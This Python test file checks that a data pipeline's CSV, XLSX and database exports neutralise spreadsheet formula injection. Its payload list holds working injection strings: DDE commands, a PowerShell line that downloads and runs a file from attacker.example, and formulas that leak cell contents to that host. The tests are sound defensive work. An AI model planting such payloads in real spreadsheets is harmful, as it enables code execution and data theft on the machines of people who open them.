"""No cell runs in a spreadsheet, and none is lost for it."""

import zipfile

import openpyxl
import pytest
from finished import EMPTY, article, of_csv, of_jsonl, of_parquet, of_sqlite, raw_cells, run_of

from pipeline.results import Results
from pipeline.writers import formats

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    '=HYPERLINK("https://attacker.example/?leak="&A1,"ici")',
    '=WEBSERVICE("https://attacker.example/"&A1)',
    '=IMPORTXML(CONCAT("https://attacker.example/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "'=1+1",
    "''=1+1",
    '";=1+1;"',
    ";=1+1",
    '",=1+1,"',
    "-20 °C",
    "@openai",
    "https://a.fr/=1",
    "file:///etc/passwd",
    "internal:'about'!A1",
    "mailto:a@b.fr",
    "{=1+1}",
]
# what no cell may begin with in the eyes of a spreadsheet
RUNS = tuple("=+-@\t\r\n＝＋－＠")


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    folder = tmp_path_factory.mktemp("run")
    articles = [article(text, title=text, url=text, author=text) for text in PAYLOADS]
    results = run_of(folder, [[*EMPTY[:5], text] for text in PAYLOADS], articles=articles)
    formats.write(results, folder, ("sqlite", "parquet", "jsonl", "xlsx"))
    (folder / "excel").mkdir()
    formats.write(results, folder / "excel", ["csv"], excel=True)
    return folder


@pytest.mark.parametrize(("place", "delimiter"), [(".", ","), ("excel", ";")])
@pytest.mark.parametrize(("table", "column"), [("articles", 1), ("articles", 0), ("figures", 10)])
def test_a_csv_has_an_apostrophe_before_it(folder, place, delimiter, table, column):
    cells = [row[column] for row in raw_cells(folder / place / f"{table}.csv", delimiter)]
    assert len(cells) == len(PAYLOADS)
    assert [cell for cell in cells if cell.startswith(RUNS)] == []
    assert [row[column] for row in of_csv(folder / place, table)] == PAYLOADS


@pytest.mark.parametrize("read", [of_sqlite, of_parquet, of_jsonl])
def test_what_no_spreadsheet_opens_has_it_as_it_is(folder, read):
    assert [row[-1] for row in read(folder, "figures")] == PAYLOADS
    assert [row[0] for row in read(folder, "articles")] == PAYLOADS


def test_a_sheet_has_it_as_text(folder):
    book = openpyxl.load_workbook(folder / "run.xlsx")
    for sheet, column in (("figures", 11), ("articles", 1), ("articles", 2), ("articles", 4)):
        cells = [row[column - 1] for row in book[sheet].iter_rows(2)]
        assert {cell.data_type for cell in cells} == {"s"}
        found = [cell.value.replace("_x000D_", "\r") for cell in cells]
        assert found == PAYLOADS
    links = {cell.hyperlink.target for row in book["articles"] for cell in row if cell.hyperlink}
    assert links == {"https://a.fr/=1"}
    with zipfile.ZipFile(folder / "run.xlsx") as parts:
        sheets = [parts.read(name) for name in parts.namelist() if "worksheets/sheet" in name]
        assert not [name for name in parts.namelist() if "external" in name.lower()]
    assert sum(b"<f" in sheet for sheet in sheets) == 0


def test_plain_text_is_not_touched(folder, tmp_path):
    texts = ["l'iPhone", "' =1", "1-2", "5 + 3", "a@b.fr", "\u00a0=1", " =1"]
    run_of(tmp_path, [[*EMPTY[:5], text] for text in texts])
    assert [row[10] for row in raw_cells(tmp_path / "figures.csv", ",")] == texts
    assert [row["note"] for row in Results.of(tmp_path).table("figures").rows()] == texts
